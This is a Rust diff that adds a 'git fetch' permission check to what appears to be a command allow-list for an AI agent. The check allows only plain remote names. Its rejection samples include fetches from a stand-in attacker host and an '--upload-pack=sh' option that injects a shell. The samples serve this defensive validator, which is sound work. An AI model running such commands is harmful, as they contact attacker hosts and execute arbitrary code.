@@ -745,6 +745,20 @@ fn git_create_branch_check(parsed: &Parsed, grammar: &Grammar, args: &[String]) 
     }
 }
 
+/// git fetch: from a configured remote named plainly (`origin`), never a URL, an ssh
+/// `host:path` or a path, which would send the words to a host the agent chose; and no refspec,
+/// which could move local branches.
+fn git_fetch_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
+    let plain_name = |word: &str| {
+        word.bytes().next().is_some_and(|first| first.is_ascii_alphanumeric())
+            && word.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_'))
+    };
+    match operand_words(parsed, args).find(|word| !plain_name(word)) {
+        Some(word) => Err(format!("fetches from `{word}`, which is not a plain remote name")),
+        None => Ok(()),
+    }
+}
+
 /// git restore: only unstaging.
 fn git_restore_check(parsed: &Parsed, grammar: &Grammar, _args: &[String]) -> Result<(), String> {
     if parsed.has(grammar, "staged") { Ok(()) } else { Err("restores the working tree (discards changes)".to_owned()) }
@@ -3050,6 +3064,37 @@ pub static GIT_SUBCOMMANDS: &[GitSubcommand] = &[
                 "git add --all",
             ],
             ..entry("write.git-add", &["git"])
+        },
+    },
+    GitSubcommand {
+        names: &["fetch"],
+        entry: SafeEntry {
+            // Updates remote-tracking refs only: no local branch or file changes.
+            tier: Tier::Medium,
+            options: &[
+                "-q, --quiet",
+                "-v, --verbose",
+                "--all",
+                "-p, --prune",
+                "-t, --tags",
+                "-n, --no-tags",
+                "--dry-run",
+                "--no-recurse-submodules",
+            ],
+            operands: "TEXT?",
+            check: Some(git_fetch_check),
+            matches: &["git fetch origin", "git fetch --prune", "git fetch --all -q"],
+            not_matches: &[
+                "git fetch https://attacker.example/x",
+                "git fetch attacker.example:repo",
+                "git fetch ../other",
+                "git fetch origin main:main",
+                "git fetch --upload-pack=sh origin",
+                "git fetch --recurse-submodules origin",
+            ],
+            // `reference-transaction`, and `pre-auto-gc` when it packs.
+            runs_repository_hooks: true,
+            ..entry("write.git-fetch", &["git"])
         },
     },
     GitSubcommand {
